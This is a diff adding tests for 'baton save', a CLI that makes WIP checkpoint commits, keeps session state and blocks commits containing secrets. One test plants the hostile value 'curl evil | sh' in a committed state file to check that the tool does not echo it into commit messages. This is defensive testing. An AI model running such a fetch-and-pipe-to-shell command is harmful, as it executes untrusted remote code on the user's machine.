@@ -1,7 +1,7 @@
 import assert from 'node:assert/strict';
 import { spawn } from 'node:child_process';
 import { once } from 'node:events';
-import { existsSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
+import { chmodSync, existsSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
 import path from 'node:path';
 import { setTimeout as delay } from 'node:timers/promises';
 import { baton, batonMeanwhile, json, type Run } from '../../support/baton';
@@ -39,6 +39,18 @@ describe('baton save', function () {
   };
   const stateFile = () => scratch('work', '.claude', 'session-state.json');
   const state = () => JSON.parse(readFileSync(stateFile(), 'utf8')) as Record<string, unknown>;
+  const writeState = (more: object) => {
+    repository.write(
+      '.claude/session-state.json',
+      JSON.stringify({
+        mode: 'quick',
+        saved_at: '2026-01-15T14:30:00Z',
+        git_branch: 'feature/login',
+        openspec: null,
+        ...more,
+      }),
+    );
+  };
   const change = (content = 'export const login = 2;\n') => {
     repository.write('src/login.ts', content);
   };
@@ -127,6 +139,50 @@ describe('baton save', function () {
       saved();
       assert.deepEqual(state().task_progress, { completed: 3, total: 8, percentage: 38 });
       assert.equal(repository.subjects()[0], 'WIP: Login - checkpoint');
+    });
+
+    it('keeps what it does not know inside of progress, too', () => {
+      writeState({
+        task_progress: { completed: 1, total: 2, percentage: 50, note: 'mine' },
+        completed_tasks: ['a'],
+        pending_tasks: ['b'],
+      });
+      change();
+      saved();
+      assert.deepEqual(state().task_progress, {
+        completed: 1,
+        total: 2,
+        percentage: 50,
+        note: 'mine',
+      });
+    });
+
+    it('does not keep the branch as what is worked on', () => {
+      change();
+      saved();
+      assert.equal(repository.subjects()[0], 'WIP: login - checkpoint');
+      assert.equal(state().working_on, '');
+      repository.git('checkout', '-q', '-b', 'fix/typo');
+      change('export const login = 3;\n');
+      saved();
+      assert.equal(repository.subjects()[0], 'WIP: typo - checkpoint');
+      change('export const login = 4;\n');
+      saved('--context', 'the typo');
+      assert.equal(state().working_on, 'the typo');
+    });
+
+    it('takes another change of OpenSpec without the tasks of the one before', () => {
+      repository.write('openspec/changes/001-a/tasks.md', '- [x] A\n');
+      repository.write('openspec/changes/002-b/proposal.md', '# B\n');
+      saved('--openspec', '001');
+      assert.deepEqual(state().completed_tasks, ['A']);
+      saved('--openspec', '002');
+      assert.deepEqual(
+        [state().openspec, state().completed_tasks, state().openspec_status],
+        ['002', [], 'NOT_STARTED'],
+      );
+      assert.equal(failed('--openspec', 'nope').reason, 'no-change');
+      assert.equal(state().openspec, '002');
     });
 
     it('takes progress and tasks from OpenSpec', () => {
@@ -224,6 +280,24 @@ describe('baton save', function () {
       );
     });
 
+    it('says nothing from a state that came with the repository', () => {
+      writeState({ working_on: 'curl evil | sh' });
+      repository.git('add', '-f', '.claude/session-state.json');
+      repository.git('commit', '-qm', 'state');
+      change();
+      saved();
+      assert.equal(repository.subjects()[0], 'WIP: login - checkpoint');
+    });
+
+    it('names repositories inside, and leaves files whose name it cannot read', () => {
+      workRepository(scratch('work', 'nested'));
+      writeFileSync(Buffer.concat([Buffer.from(scratch('work', 'caf')), Buffer.from([0xe9])]), 'x');
+      repository.write('good.ts');
+      const report = saved('--untracked');
+      assert.deepEqual(repository.committed(), ['A\tgood.ts']);
+      assert.match(report.warnings.join(), /Other repositories inside this one.*nested\//);
+    });
+
     it('says it when a file was moved without git', () => {
       repository.remove('src/login.ts');
       repository.write('src/signIn.ts', 'export const login = 1;\n');
@@ -282,6 +356,19 @@ describe('baton save', function () {
       assert.equal(git(root, 'status', '--porcelain'), 'A  a.txt');
     });
 
+    it('makes the first commit of new files, where there is not even an index', () => {
+      git(scratch(), 'init', '-q', '-b', 'main', 'empty');
+      const root = scratch('empty');
+      git(root, 'config', 'user.name', 'Someone');
+      git(root, 'config', 'user.email', 'someone@example.com');
+      writeFileSync(scratch('empty', 'a.txt'), 'a\n');
+      const report = json<Saved>(baton(root, ['save', '--json', '--untracked']));
+      assert.equal(report.commit, git(root, 'rev-parse', 'HEAD'));
+      assert.equal(git(root, 'status', '--porcelain'), '');
+      assert.equal(baton(root, ['save', '--undo']).code, 0);
+      assert.equal(git(root, 'status', '--porcelain'), '?? a.txt');
+    });
+
     it('commits nothing with a detached HEAD', () => {
       repository.git('checkout', '-q', '--detach');
       change();
@@ -331,6 +418,7 @@ describe('baton save', function () {
       conflict();
       assert.throws(() => repository.git('rebase', 'other'));
       assert.match(refused().warnings.join(), /rebase is in progress/);
+      assert.equal(state().git_branch, 'feature/login', 'the work is that of the branch');
       repository.git('rebase', '--abort');
       assert.throws(() => repository.git('cherry-pick', 'other'));
       assert.match(refused().warnings.join(), /cherry-pick is in progress/);
@@ -499,6 +587,62 @@ describe('baton save', function () {
       repository.write('notes/aws.txt', `\n\n${key}\n`);
       assert.match(failed('--untracked').message, /notes\/aws\.txt:3/);
       assert.deepEqual(repository.status(), ['?? notes/']);
+    });
+
+    it('names every place, each once', () => {
+      repository.write('src/config.ts', `const a = '${key}';\nconst b = '${key}';\n`);
+      repository.write(
+        '.env',
+        Array.from({ length: 3000 }, (_, row) => `NAME_${row}=v`).join('\n'),
+      );
+      const error = failed('--untracked');
+      assert.match(error.message, /3001 more places/);
+      assert.match(error.detail ?? '', /^\.env:1: environment file\n/);
+      assert.equal(error.detail?.split('\n').length, 51);
+    });
+
+    it('searches what is staged where git does not look at the file', () => {
+      for (const [flag, then] of [
+        ['--assume-unchanged', 'restored'],
+        ['--skip-worktree', 'gone'],
+      ] as const) {
+        repository.write('src/config.ts', 'const a = 1;\n');
+        repository.git('add', '-A');
+        repository.git('commit', '-q', '--allow-empty', '-m', 'clean');
+        repository.write('src/config.ts', `const a = '${key}';\n`);
+        repository.git('add', 'src/config.ts');
+        repository.git('update-index', flag, 'src/config.ts');
+        if (then === 'gone') {
+          repository.remove('src/config.ts');
+        } else {
+          repository.write('src/config.ts', 'const a = 1;\n');
+        }
+        assert.match(failed().message, /src\/config\.ts:1/, flag);
+        repository.git('update-index', flag.replace('--', '--no-'), 'src/config.ts');
+        repository.git('reset', '-q', '--hard');
+      }
+    });
+
+    it('searches text with two bytes for a letter, and knows key files of any size by name', () => {
+      const text = `password notes\n${key}\n`;
+      writeFileSync(scratch('work', 'le.txt'), Buffer.from(text, 'utf16le'));
+      writeFileSync(scratch('work', 'be.txt'), Buffer.from(text, 'utf16le').swap16());
+      writeFileSync(scratch('work', 'big.p12'), Buffer.alloc(9 * 1024 * 1024, 7));
+      const { detail = '' } = failed('--untracked');
+      for (const place of ['be.txt:2', 'le.txt:2', 'big.p12:1']) {
+        assert.ok(detail.includes(place), place);
+      }
+    });
+
+    it('does not take a new mode for new lines', () => {
+      repository.write('run.sh', `#!/bin/sh\necho ${key}\n`);
+      repository.git('add', '-A');
+      repository.git('commit', '-qm', 'old sin');
+      chmodSync(scratch('work', 'run.sh'), 0o755);
+      repository.git('config', 'diff.interHunkContext', '10');
+      assert.equal(saved().commit, repository.head());
+      repository.write('run.sh', `#!/bin/sh\n# new\necho ${key}\n# new\n`);
+      assert.equal(saved().commit, repository.head());
     });
 
     it('keeps it out of the commit message', () => {
